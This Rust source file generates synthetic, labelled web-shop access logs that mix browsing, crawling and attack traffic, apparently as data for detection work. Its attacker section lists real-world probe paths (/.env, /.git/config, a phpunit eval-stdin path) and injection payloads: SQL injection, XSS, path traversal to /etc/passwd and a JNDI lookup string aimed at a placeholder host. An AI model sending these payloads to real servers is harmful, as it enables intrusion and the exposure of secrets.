//! The requests of a shop's web server: of people, of crawlers, and of those who look for a way in.
//!
//! A visitor makes several requests, mixed with those of others. Most crawlers say what they are, some pretend to be a
//! browser; most attacks show in the path, some look about like anybody first, and people get their passwords wrong too.

use rand::RngExt;

use super::{
    dice::{Clock, Dice, dice, log_normal, pick, skewed, weighted},
    row::Row,
};

/// Of one partition; each partition has visitors of its own.
const VISITORS: usize = 50_000;
/// How many visitors are there at a time.
const VISITS: usize = 256;
const GAP_MS: f64 = 40.0;
const PRODUCTS: usize = 5_000;

const BROWSERS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36",
];
const CRAWLERS: [&str; 7] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Scrapy/2.11.2 (+https://scrapy.org)",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
];
const ATTACKERS: [&str; 6] = [
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "",
    "Go-http-client/2.0",
];

const SEARCHES: [&str; 12] = [
    "shoes",
    "red+jacket",
    "lamp",
    "usb+cable",
    "coffee",
    "select+blend",
    "union+jack",
    "desk",
    "script+pens",
    "tent",
    "bike+light",
    "mug",
];
const ASSETS: [&str; 6] = [
    "/static/app.css",
    "/static/app.js",
    "/static/logo.svg",
    "/favicon.ico",
    "/static/hero.webp",
    "/static/font.woff2",
];
const LISTS: [&str; 6] =
    ["/", "/category/shoes", "/category/garden", "/category/kitchen", "/category/office", "/category/sale"];
const PROBES: [&str; 14] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/wp-admin/setup-config.php",
    "/admin",
    "/config.php.bak",
    "/cgi-bin/luci",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/server-status",
    "/actuator/env",
    "/backup.zip",
    "/xmlrpc.php",
    "/console",
];
const INJECTIONS: [&str; 10] = [
    "1%27%20OR%201%3D1--",
    "1+UNION+SELECT+null,null",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "..%2f..%2f..%2fetc%2fpasswd",
    "1;SELECT+pg_sleep(5)",
    "%24%7Bjndi:ldap://x.example/a%7D",
    "admin%27--",
    "../../../../windows/win.ini",
    "1+AND+1=2",
    "%3Cimg+src=x+onerror=alert(1)%3E",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Visitor {
    Normal,
    Crawler,
    Attack,
}

use Visitor::{Attack, Crawler, Normal};

const KINDS: [Visitor; 3] = [Normal, Crawler, Attack];
/// Of the requests, in percent.
const SHARES: [u32; 3] = [85, 12, 3];
/// Of those who come; with the requests that each makes, this gives the shares.
const COMERS: [u32; 3] = [850, 30, 12];
const REQUESTS_MAX: [u32; 3] = [19, 79, 47];

impl Visitor {
    const fn name(self) -> &'static str {
        match self {
            Normal => "normal",
            Crawler => "crawler",
            Attack => "attack",
        }
    }

    fn agent(self, dice: &mut Dice) -> &'static str {
        let honest = dice.random_bool(0.7);
        match self {
            Crawler if honest => pick(dice, &CRAWLERS),
            Attack if honest => pick(dice, &ATTACKERS),
            Normal | Crawler | Attack => pick(dice, &BROWSERS),
        }
    }
}

/// A visitor who is there, and how long yet.
#[derive(Clone, Copy, Debug)]
struct Visit {
    kind: Visitor,
    visitor: usize,
    agent: &'static str,
    requests_left: u32,
}

impl Visit {
    fn new(dice: &mut Dice, weights: &[u32; 3]) -> Self {
        let kind = weighted(dice, weights);
        let (visitor, requests_left) = (skewed(dice, VISITORS), dice.random_range(1..=REQUESTS_MAX[kind]));
        let kind = KINDS[kind];
        Self { kind, visitor, agent: kind.agent(dice), requests_left }
    }
}

/// A request and what was answered, but for its path.
struct Request {
    method: &'static str,
    status: i64,
    bytes: f64,
    duration_ms: f64,
}

/// The endless stream of one partition.
#[derive(Clone, Debug)]
pub struct Weblogs {
    id: u64,
    first_visitor: u64,
    dice: Dice,
    clock: Clock,
    visits: Vec<Visit>,
    /// The path in the making.
    path: String,
}

impl Weblogs {
    #[must_use]
    pub fn new(seed: u64, partition: i32) -> Self {
        let mut dice = dice(seed, partition);
        let visits = (0..VISITS).map(|_| Visit::new(&mut dice, &SHARES)).collect();
        let first_visitor = u64::from(partition.unsigned_abs()) * VISITORS as u64;
        Self { id: 0, first_visitor, dice, clock: Clock::new(), visits, path: String::new() }
    }

    #[must_use]
    pub fn next_id(&self) -> u64 {
        self.id
    }

    #[must_use]
    pub fn now_ms(&self) -> i64 {
        self.clock.ms()
    }

    /// Draws the next record.
    pub fn next(&mut self, row: &mut impl Row) {
        let gap_ms = GAP_MS / self.clock.rhythm();
        self.clock.advance(&mut self.dice, gap_ms);
        let visit = self.visit();
        self.path.clear();
        let request = match visit.kind {
            Normal => browse(&mut self.dice, &mut self.path),
            Crawler => crawl(&mut self.dice, &mut self.path),
            Attack => attack(&mut self.dice, &mut self.path),
        };

        row.id(self.id);
        row.time("time", self.clock.ms());
        row.entity("visitor", 'v', self.first_visitor + visit.visitor as u64);
        row.text("method", request.method);
        row.text("path", &self.path);
        row.whole("status", request.status);
        row.whole("bytes", whole(request.bytes));
        row.decimal("duration_ms", request.duration_ms, 1);
        row.text("agent", visit.agent);
        row.truth("kind", visit.kind.name());
        self.id += 1;
    }

    /// One of the visitors who are there; another comes when one has gone.
    fn visit(&mut self) -> Visit {
        let dice = &mut self.dice;
        let visit = &mut self.visits[dice.random_range(0..VISITS)];
        if visit.requests_left == 0 {
            *visit = Visit::new(dice, &COMERS);
        }
        visit.requests_left -= 1;
        *visit
    }
}

/// What people do.
fn browse(dice: &mut Dice, path: &mut String) -> Request {
    match dice.random_range(0..100_u32) {
        0..38 => {
            path.push_str(pick(dice, &ASSETS));
            let status = if dice.random_bool(0.4) { 304 } else { 200 };
            answered(dice, "GET", status, 18_000.0, 3.0)
        }
        38..58 => {
            path.push_str(pick(dice, &LISTS));
            answered(dice, "GET", 200, 24_000.0, 45.0)
        }
        58..78 => {
            push_numbered(path, "/product/", skewed(dice, PRODUCTS));
            let status = found(dice, 0.99);
            answered(dice, "GET", status, 21_000.0, 38.0)
        }
        78..88 => {
            path.push_str("/search?q=");
            path.push_str(pick(dice, &SEARCHES));
            answered(dice, "GET", 200, 15_000.0, 95.0)
        }
        88..94 => {
            path.push_str("/cart");
            answered(dice, "POST", 302, 400.0, 30.0)
        }
        94..98 => log_in(dice, path, 0.85),
        _ => {
            push_numbered(path, "/order/", dice.random_range(0..900_000));
            let status = found(dice, 0.98);
            answered(dice, "GET", status, 9_000.0, 40.0)
        }
    }
}

/// What crawlers do: pages without what belongs to them, and a few that only crawlers ask for.
fn crawl(dice: &mut Dice, path: &mut String) -> Request {
    let method = if dice.random_bool(0.08) { "HEAD" } else { "GET" };
    match dice.random_range(0..100_u32) {
        0..4 => {
            path.push_str(pick(dice, &["/robots.txt", "/sitemap.xml", "/feed.xml"]));
            answered(dice, method, 200, 2_500.0, 4.0)
        }
        4..70 => {
            push_numbered(path, "/product/", dice.random_range(0..PRODUCTS));
            let status = found(dice, 0.93);
            answered(dice, method, status, 19_000.0, 38.0)
        }
        70..90 => {
            path.push_str(pick(dice, &LISTS));
            push_numbered(path, "?page=", dice.random_range(2..80));
            let status = found(dice, 0.97);
            answered(dice, method, status, 23_000.0, 48.0)
        }
        _ => {
            path.push_str(pick(dice, &LISTS));
            answered(dice, method, 200, 24_000.0, 45.0)
        }
    }
}

/// What attackers do; sometimes they only look about.
fn attack(dice: &mut Dice, path: &mut String) -> Request {
    match dice.random_range(0..100_u32) {
        0..15 => browse(dice, path),
        15..50 => {
            path.push_str(pick(dice, &PROBES));
            let status = pick(dice, &[404, 404, 404, 404, 403, 200]);
            let method = if dice.random_bool(0.75) { "GET" } else { "POST" };
            answered(dice, method, status, 700.0, 6.0)
        }
        50..75 => {
            path.push_str(pick(dice, &["/search?q=", "/product/", "/category/", "/order/"]));
            path.push_str(pick(dice, &INJECTIONS));
            let status = pick(dice, &[400, 404, 500, 500, 403, 200]);
            answered(dice, "GET", status, 1_200.0, 60.0)
        }
        _ => log_in(dice, path, 0.02),
    }
}

fn log_in(dice: &mut Dice, path: &mut String, right: f64) -> Request {
    path.push_str("/login");
    let status = if dice.random_bool(right) { 302 } else { 401 };
    answered(dice, "POST", status, 350.0, 110.0)
}

/// 200, or at times 404.
fn found(dice: &mut Dice, share: f64) -> i64 {
    if dice.random_bool(share) { 200 } else { 404 }
}

/// An answer of about so many bytes in about so much time; errors, and what has not changed, are short.
fn answered(dice: &mut Dice, method: &'static str, status: i64, bytes: f64, duration_ms: f64) -> Request {
    let long = status == 200 && method != "HEAD";
    let bytes = if long { bytes } else { bytes.min(600.0) };
    let empty = status == 304 || method == "HEAD";
    Request {
        method,
        status,
        bytes: if empty { 0.0 } else { log_normal(dice, bytes, 0.6) },
        duration_ms: log_normal(dice, duration_ms, 0.6).max(0.1),
    }
}

#[expect(clippy::cast_possible_truncation, reason = "some thousands")]
fn whole(number: f64) -> i64 {
    number as i64
}

fn push_numbered(path: &mut String, before: &str, number: usize) {
    path.push_str(before);
    path.push_str(itoa::Buffer::new().format(number));
}
